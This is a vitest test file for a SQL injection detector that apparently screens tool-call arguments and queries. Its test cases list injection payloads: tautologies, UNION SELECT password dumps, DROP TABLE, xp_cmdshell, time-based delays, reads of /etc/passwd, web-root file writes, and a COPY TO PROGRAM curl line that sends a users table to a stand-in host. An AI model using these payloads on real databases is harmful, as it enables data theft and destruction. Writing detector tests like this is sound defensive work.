import { describe, expect, it } from 'vitest';
import { detectSqlInjection, injectedStatement, lex } from './sql-injection.js';
import { judge } from './testing.js';

const value = (v: string, s?: 'low' | 'medium' | 'high'): string | undefined => judge(detectSqlInjection, 'search_customers', 'name', v, s);
const query = (q: string, s?: 'low' | 'medium' | 'high'): string | undefined => judge(detectSqlInjection, 'db_query', 'sql', q, s);

describe('sql injection in values', () => {
  it.each([
    ["x' OR '1'='1", 'tautology'],
    ["admin' OR 1=1--", 'tautology'],
    ['" OR ""="', 'tautology'],
    ["') OR ('a'='a", 'tautology'],
    ['5 or 5=5', 'numeric tautology'],
    ["' UNION SELECT username, password FROM users--", 'UNION SELECT'],
    ["1/**/UNION/**/SELECT/**/1,2", 'UNION SELECT'],
    ["x' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- -", 'UNION SELECT'],
    ['1; DROP TABLE users--', 'stacked'],
    ["Robert'); DROP TABLE Students;--", 'stacked'],
    ["x'; EXEC xp_cmdshell 'whoami'--", 'escape hatch'],
    ["1' AND SLEEP(5)--", 'time-based'],
    ["x'; WAITFOR DELAY '0:0:5'--", 'time-based'],
    ['1 AND BENCHMARK(5000000,MD5(1))', 'time-based'],
    ["x' || pg_sleep(10)--", 'time-based'],
    ["admin'--", 'comment'],
    ["admin'#", 'comment'],
    ["' AND extractvalue(1,concat(0x7e,version()))--", 'error-based'],
    ['1 AND (SELECT COUNT(*) FROM information_schema.tables)>0', 'subquery'],
    ["' UNION SELECT LOAD_FILE('/etc/passwd')--", 'UNION SELECT'],
    ["x' INTO OUTFILE '/var/www/s.php'--", 'escape hatch'],
    ['1%27%20OR%201%3D1--', 'tautology'],
    ['809;+DROP+TABLE+accounts--', 'stacked'],
    ["1' ORDER BY 10--", 'clause injected'],
  ])('%s: %s', (payload, what) => {
    expect(value(payload)).toMatch(new RegExp(what.replace(/[()]/g, '\\$&'), 'i'));
  });

  it.each([
    "O'Brien", "D'Angelo", "Rock 'n' roll", "Levi's 501 jeans", "McDonald's", "don't starve", '"best laptop" -refurbished',
    'please select all rows and drop me a note', 'Union Station parking', 'update: order #4521 shipped; delete the draft',
    'Ages 3-5 -- great gift', "can't log in -- help", "invite 'Jane' and 'Bob' to lunch", 'AND/OR logic gates kit', "L'Oréal",
    'how to query information_schema in postgres', '2024-01-01', '--verbose',
    'project = "ABC" OR assignee = currentUser()', 'status = "In Progress" OR status = "Done" ORDER BY created DESC', 'title:"foo" OR body:"bar"',
  ])('%s is a value', (v) => {
    expect(value(v)).toBeUndefined();
    // At high a quote followed by a SQL keyword is enough ("invite 'Jane' and ..." then counts).
    if (!/' and /.test(v)) expect(value(v, 'high')).toBeUndefined();
  });
});

describe('sql injection in queries', () => {
  it.each([
    "SELECT * FROM users WHERE name = '' OR '1'='1'",
    'SELECT id FROM users WHERE id = 5 OR 1=1',
    "SELECT * FROM users WHERE email LIKE '%' OR 1=1 -- %'",
    'SELECT * FROM orders WHERE id = 5; DROP TABLE orders;',
    'SELECT * FROM invoices WHERE id = 1; UPDATE users SET is_admin = 1;',
    "SELECT * FROM users WHERE username = 'admin'--' AND password = 'x'",
    'SELECT * FROM items WHERE id = 1 AND SLEEP(10)',
    'SELECT pg_sleep(30)',
    "SELECT * FROM t WHERE id = 1 WAITFOR DELAY '0:0:20'",
    "SELECT title FROM posts WHERE id = -1 UNION ALL SELECT NULL, NULL, concat(user,0x3a,password) FROM mysql.user",
    "SELECT name FROM products WHERE sku = '' UNION SELECT password FROM users--'",
    "SELECT LOAD_FILE('/etc/passwd')",
    "COPY users TO PROGRAM 'curl -d @- http://x.example/u'",
    'SELECT * FROM logs; EXEC xp_cmdshell(\'net user\')',
    "SELECT * FROM reports INTO OUTFILE '/var/www/html/dump.txt'",
  ])('%s', (q) => {
    expect(query(q)).toBeDefined();
  });

  it.each([
    'SELECT name FROM users WHERE id = 5',
    'DELETE FROM sessions WHERE expires < now()',
    "SELECT * FROM customers WHERE last_name = 'O''Brien'",
    "SELECT * FROM products WHERE name LIKE '%lamp%' AND price < 40",
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') SELECT status, count(*) FROM recent GROUP BY status",
    "-- monthly revenue\nSELECT date_trunc('month', paid_at) AS m, sum(amount) FROM payments GROUP BY 1",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    'SELECT id FROM archived UNION SELECT id FROM orders',
    "BEGIN;\nUPDATE accounts SET balance = balance - 5 WHERE id = 1;\nUPDATE accounts SET balance = balance + 5 WHERE id = 2;\nCOMMIT;",
    'DROP TABLE IF EXISTS tmp;\nCREATE TABLE tmp (id int);',
    'SELECT * FROM users WHERE active = true OR is_admin = true',
    'SELECT * FROM t WHERE 1=1 AND status = 3',
    "UPDATE products SET description = 'Fits 13'' laptops; water-resistant' WHERE sku = 'B1'",
    "INSERT INTO notes (body) VALUES ('Remember: OR 1=1 is the classic injection; DROP TABLE is worse')",
    "SELECT id FROM documents WHERE to_tsvector(body) @@ plainto_tsquery('union select benchmark')",
    'SELECT version()',
    'SELECT avg(sleep_hours) FROM health WHERE user_id = 7',
    "SET search_path TO analytics;\nSELECT * FROM daily LIMIT 5;",
    'SELECT name, create_date FROM sys.tables',
    "SELECT payload #> '{a,b}' FROM events",
  ])('%s is a query', (q) => {
    expect(query(q)).toBeUndefined();
  });

  it('reads literals and comments apart, MySQL /*! comments as code', () => {
    expect(lex("a = 'x -- y' -- z").toks.map((t) => t.k)).toEqual(['word', 'op', 'str', 'comment']);
    expect(lex("'it''s'").toks[0]).toMatchObject({ k: 'str', v: "it's" });
    expect(lex('/*!50000union*/ select').toks.map((t) => t.v)).toEqual(['union', 'select']);
    expect(lex("'open").unterminated).toBe(true);
  });

  it('counts a constant AND and an unterminated literal only at high', () => {
    expect(injectedStatement('select * from t where a = 1 and 1=1', 1)).toBeUndefined();
    expect(injectedStatement('select * from t where a = 1 and 1=1', 2)).toMatch(/AND/);
    expect(injectedStatement("select * from t where a = 'x", 2)).toMatch(/unterminated/);
  });

  it('a long hostile query lexes in linear time', () => {
    const t0 = performance.now();
    injectedStatement(`select '${'\\'.repeat(60_000)}`, 2);
    injectedStatement(`${"'".repeat(60_000)}`, 2);
    injectedStatement(`select ${'(('.repeat(30_000)}`, 2);
    expect(performance.now() - t0).toBeLessThan(500);
  });
});
